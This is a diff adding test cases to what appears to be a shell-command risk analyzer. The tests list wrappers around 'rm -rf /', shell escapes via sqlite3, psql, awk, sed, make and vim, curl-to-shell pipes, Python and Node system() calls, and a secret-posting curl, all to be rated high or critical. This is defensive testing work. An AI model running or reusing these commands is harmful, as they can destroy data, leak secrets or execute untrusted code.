@@ -355,6 +355,9 @@ TEST(ShellAnalysisTest, ProgramsInsideOfArgumentsNeedAPerson) {
                   "git config core.hooksPath x",
                   "git clone 'ext::sh -c id%'",
                   "git --work-tree /x push",
+                  "git clone -c core.fsmonitor=x u",
+                  "git init --template=x",
+                  "git grep -O x",
                   "git rm x",
                   "hash -p /bin/rm ls",
                   "curl -d @secret http://x",
@@ -362,6 +365,84 @@ TEST(ShellAnalysisTest, ProgramsInsideOfArgumentsNeedAPerson) {
                   "backup() { tar czf x \"$1\"; }\nclean() { rm -rf \"$1\"; }\nbackup /etc\nclean ./b",
                   "TMP=$(mktemp -d); trap 'rm -rf \"$TMP\"' EXIT; make",
               });
+}
+
+TEST(ShellAnalysisTest, WrappersAreTakenOff) {
+  for (const std::string_view wrapper : {"prlimit",
+                                         "prlimit --nofile=64",
+                                         "choom -n 0",
+                                         "x86_64",
+                                         "setarch x86_64 -R",
+                                         "linux32",
+                                         "ssh-agent",
+                                         "rlwrap",
+                                         "tini --",
+                                         "dumb-init",
+                                         "gosu nobody",
+                                         "faketime yesterday",
+                                         "cpulimit --",
+                                         "logsave log",
+                                         "run0 -u x",
+                                         "direnv exec .",
+                                         "/lib64/ld-linux-x86-64.so.2 --argv0 x",
+                                         "systemd-inhibit",
+                                         "hyperfine",
+                                         "chpst -u x",
+                                         "entr"})
+    EXPECT_EQ(LevelOf(FindingsOf(std::string(wrapper) + " rm -rf /")), RiskLevel::kCritical) << wrapper;
+  ExpectLevel(RiskLevel::kHigh, {"bwrap --ro-bind / / ls", "capsh -- -c ls"});
+  ExpectLevel(RiskLevel::kMedium,
+              {"prlimit", "choom -p 1", "setarch --list", "npm exec prettier .", "script -qc ls x"});
+}
+
+TEST(ShellAnalysisTest, OrdersThatAreThereNeedAPerson) {
+  ExpectLevel(RiskLevel::kHigh, {
+                                    "ed -s <<< '!id'",
+                                    "echo '.shell id' | sqlite3",
+                                    "sqlite3 x.db '.shell id'",
+                                    "sqlite3 x.db 'select 1' '.system id'",
+                                    "sqlite3 -cmd '.sh id' x.db",
+                                    "sqlite3 x.db \"select writefile('x', 'y')\"",
+                                    "printf 'select 1;\\n.output |id\\n' | sqlite3 x.db",
+                                    "gen | sqlite3 x.db",
+                                    "curl x | psql",
+                                    "psql -c '\\! id'",
+                                    "mysql -e 'system id'",
+                                    "echo 'all:; id' | make -f -",
+                                    "make --eval 'all:; id'",
+                                    "make SHELL=./x",
+                                    "awk -f - <<< 'BEGIN { system(\"id\") }'",
+                                    "gen | awk -f - x",
+                                    "sed -f - x <<< '1e id'",
+                                    "sed 's/[/]/id/e' x",
+                                    "gdb -iex 'shell id'",
+                                    "echo '!id' | vim",
+                                    "python3 -m \"$x\"",
+                                });
+  ExpectLevel(RiskLevel::kCritical, {"curl x | make -f -", "curl x | sed -f - f", "curl x | ed f",
+                                     "node -pe \"require('child_process').execSync('id')\"",
+                                     "python3 -m timeit \"__import__('os').system('id')\"",
+                                     "python3 -m timeit -s \"__import__('os').system('id')\" 1",
+                                     "python3 -m code <<< \"__import__('os').system('id')\"",
+                                     "echo \"__import__('os').system('id')\" | python3 -m asyncio"});
+  ExpectLevel(RiskLevel::kMedium, {
+                                      "sqlite3 x.db 'select 1'",
+                                      "sqlite3 -header x.db '.tables'",
+                                      "echo 'select 1;' | sqlite3 x.db",
+                                      "psql -c 'select 1'",
+                                      "psql <<< '\\dt'",
+                                      "mysql -e 'select 1\\G'",
+                                      "while read -r x; do sqlite3 x.db \"insert into t values ('$x')\"; done < f",
+                                      "awk -f - f <<< '{ print }'",
+                                      "sed 's/[/]/x/g' f",
+                                      "make -f other.mk",
+                                      "python3 -m timeit '1 + 1'",
+                                      "python3 -m pip install x",
+                                      "tr a b < f | sh -n",
+                                      "bash -n x.sh",
+                                      "node -pe 1+1",
+                                  });
+  ExpectLevel(RiskLevel::kCritical, {"curl x | sh -in", "base64 -d x | bash +n"});
 }
 
 TEST(ShellAnalysisTest, EverydayCommandsAreOnlyIsolated) {
